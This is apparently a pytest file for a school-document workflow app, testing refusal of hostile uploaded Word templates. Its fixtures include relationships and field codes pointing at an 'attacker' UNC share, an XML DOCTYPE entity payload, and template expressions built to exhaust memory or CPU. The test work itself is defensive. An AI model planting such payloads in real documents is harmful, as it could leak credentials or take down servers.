"""Uploaded templates: external links found by parsing, DOCTYPE in any encoding, and renders that
cannot exhaust a worker — at upload and at every later transition — with refusals naming the limit."""
from __future__ import annotations

import io
import re
import resource
import time
import zipfile

import pytest
from sqlalchemy import func, select

from vsoko_flow.db import transaction
from vsoko_flow.models import Artefact, HistoryEntry, StoredDocument
from vsoko_flow.services import template_upload
from vsoko_flow.services.errors import Unprocessable
from vsoko_flow.services.transitions import fire_transition

from .test_admin import admin, database_url, demo, demo_database, school_id  # noqa: F401 - fixtures
from .test_template_upload import (
    DAY, SHIPPED, count_versions, docx, draft_id, gather_opinions, own_polozhenie, post, rezip, stored_versions, text, upload,
)

ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
# Each filter makes every «о» ten: the sample title (six «о») gives 600 000 letters, a title of
# a thousand «о» would give 10⁸.
REPLACE_CHAIN = "{{ title" + '|replace("о", "оооооооооо")' * 5 + " }}"


def with_relationship(attributes: str, encoding: str = "utf-8") -> bytes:
    """The shipped Положение with one more relationship written as `attributes` says."""
    with zipfile.ZipFile(SHIPPED) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    rels = rels.replace("</Relationships>", f"<Relationship Id='rId99' {attributes}/></Relationships>")
    if encoding != "utf-8":
        rels = rels.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
    return rezip(SHIPPED.read_bytes(), replace={"word/_rels/document.xml.rels": rels.encode(encoding)})


def rss_mb() -> float:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * resource.getpagesize() / 2**20


# --------------------------------------------------------------------------- external links and DOCTYPE


@pytest.mark.parametrize("attributes, encoding", [
    (f"Type='{ATTACHED_TEMPLATE}' Target='file:///C:/x.dotm' TargetMode='External'", "utf-8"),
    (f'Type="{ATTACHED_TEMPLATE}" Target="file:///C:/x.dotm" TargetMode = "External"', "utf-8"),
    (f'Type="{ATTACHED_TEMPLATE}" Target="file:///C:/x.dotm" TargetMode=" external "', "utf-8"),
    (f'Type="{ATTACHED_TEMPLATE}" Target="file:///C:/x.dotm" TargetMode="External"', "utf-16"),
    (f'Type="{ATTACHED_TEMPLATE}" Target="\\\\attacker\\share\\x.dotm"', "utf-8"),  # no mode, a UNC path
    (f'Type="{HYPERLINK}" Target="file://attacker/share/report.docx" TargetMode="External"', "utf-8"),
])
def test_an_external_target_is_refused_however_it_is_written(rt, admin, attributes, encoding):  # noqa: F811
    response = upload(admin, with_relationship(attributes, encoding))
    assert response.status_code == 422
    assert "ссылается на внешние ресурсы" in text(response)
    assert count_versions(rt) == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_a_doctype_in_a_utf16_or_utf32_part_is_refused(rt, admin, encoding):  # noqa: F811
    hostile = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]><item>&e;</item>'
    data = rezip(own_polozhenie(), extra={"customXml/item9.xml": hostile.encode(encoding)})
    response = upload(admin, data)
    assert response.status_code == 422
    assert "DOCTYPE" in text(response)
    assert count_versions(rt) == 0


SIMPLE_FIELD = ('<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "\\\\attacker\\share\\x.png" \\d \'>'
                '<w:r><w:t>рисунок</w:t></w:r></w:fldSimple></w:p>')
SPLIT_FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
               '</w:instrText></w:r><w:r><w:instrText>TEXT "file:///C:/x.docx" </w:instrText></w:r>'
               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>текст</w:t></w:r>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize("paragraph, field", [(SIMPLE_FIELD, "INCLUDEPICTURE"), (SPLIT_FIELD, "INCLUDETEXT")])
def test_a_field_that_fetches_a_file_is_refused(rt, admin, paragraph, field):  # noqa: F811
    data = own_polozhenie()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    body = xml.index("<w:body>") + len("<w:body>")
    response = upload(admin, rezip(data, replace={"word/document.xml": (xml[:body] + paragraph + xml[body:]).encode()}))
    assert response.status_code == 422
    assert f"поле Word {field}, которое загружает внешний файл" in text(response)
    assert count_versions(rt) == 0


# --------------------------------------------------------------------------- limits at upload


def test_a_chain_of_replace_filters_is_refused_by_the_memory_limit(rt, admin):  # noqa: F811
    body = "{{ title" + '|replace("о", "оооооооооо")' * 9 + " }}"  # 6·10⁹ letters
    before = rss_mb()
    started = time.monotonic()
    response = upload(admin, docx(body))
    assert time.monotonic() - started < 15
    assert response.status_code == 422
    assert "не уложился в ограничения тестовой отрисовки (не более 256 МБ памяти)" in text(response)
    assert count_versions(rt) == 0
    assert rss_mb() - before < 50  # the worker itself never held the text
    assert upload(admin, own_polozhenie()).status_code == 303  # and goes on serving


def test_a_loop_of_a_hundred_million_iterations_is_refused_by_the_cpu_limit(rt, admin):  # noqa: F811
    many = "[" + ",".join("0" for _ in range(15_000)) + "]"  # 2.25·10⁸ iterations, printing nothing
    body = f"{{% for a in {many} %}}{{% for b in {many} %}}{{% if a > b %}}.{{% endif %}}{{% endfor %}}{{% endfor %}}"
    started = time.monotonic()
    response = upload(admin, docx(body))
    elapsed = time.monotonic() - started
    assert response.status_code == 422
    # The CPU limit, or on a machine too busy to give it 5 s of CPU in time, the wall-clock one.
    assert re.search(r"ограничения тестовой отрисовки \(не более (5 с процессорного времени|40 с)\)", text(response))
    assert elapsed < template_upload.TEMPLATE_LIMITS.wall_seconds + 5
    assert count_versions(rt) == 0


def test_a_render_that_outlives_the_wall_clock_is_stopped(rt, monkeypatch):
    monkeypatch.setattr(template_upload, "TEMPLATE_LIMITS", template_upload.Limits(cpu_seconds=30, wall_seconds=1))
    many = "[" + ",".join("0" for _ in range(10_000)) + "]"
    body = f"{{% for a in {many} %}}{{% for b in {many} %}}{{% endfor %}}{{% endfor %}}"
    with pytest.raises(Unprocessable, match=r"\(не более 1 с\)"):
        template_upload.check_template(rt.templates.get("polozhenie"), docx(body))


# --------------------------------------------------------------------------- limits at every render


def test_an_accepted_template_meeting_a_long_title_is_refused_in_the_transition(rt, admin, demo, school_id):  # noqa: F811
    url = upload(admin, own_polozhenie(REPLACE_CHAIN)).headers["Location"]  # passes: the sample title is short
    assert post(admin, f"{url}/accept", url).status_code == 303
    artefact_id = draft_id(rt, school_id)
    gather_opinions(rt, artefact_id, demo["deputy"])
    with transaction(rt.sessions) as session:
        session.get(Artefact, artefact_id).title = "о" * 1000
    with rt.sessions() as session:
        documents_before = session.scalar(select(func.count()).select_from(StoredDocument))
        history_before = session.scalar(select(func.count()).select_from(HistoryEntry))
    before = rss_mb()
    with pytest.raises(Unprocessable) as refused:
        fire_transition(rt, artefact_id, "send_to_council", demo["deputy"], today=DAY)
    assert "не уложился в ограничения при формировании документа (не более 256 МБ памяти)" in refused.value.message
    assert rss_mb() - before < 50
    with rt.sessions() as session:
        assert session.get(Artefact, artefact_id).state == "opinions"
        assert session.scalar(select(func.count()).select_from(StoredDocument)) == documents_before
        assert session.scalar(select(func.count()).select_from(HistoryEntry)) == history_before
    # With an ordinary title the same template works, rendered in its limited process.
    with transaction(rt.sessions) as session:
        session.get(Artefact, artefact_id).title = "Положение о ВСОКО"
    result = fire_transition(rt, artefact_id, "send_to_council", demo["deputy"], today=DAY)
    assert result.to_state == "council_review"


def test_the_preview_of_a_version_is_made_once_not_on_each_view(rt, admin, monkeypatch):  # noqa: F811
    url = upload(admin, own_polozhenie("Своя редакция")).headers["Location"]
    renders = []
    limited = template_upload._limited
    monkeypatch.setattr(template_upload, "_limited", lambda *args: renders.append(args[0]) or limited(*args))
    for _ in range(3):
        assert "Своя редакция" in text(admin.get(url))
        assert admin.get(f"{url}/check.docx").status_code == 200
    assert len(renders) <= 1
    assert [v.version for v in stored_versions(rt)] == [1]
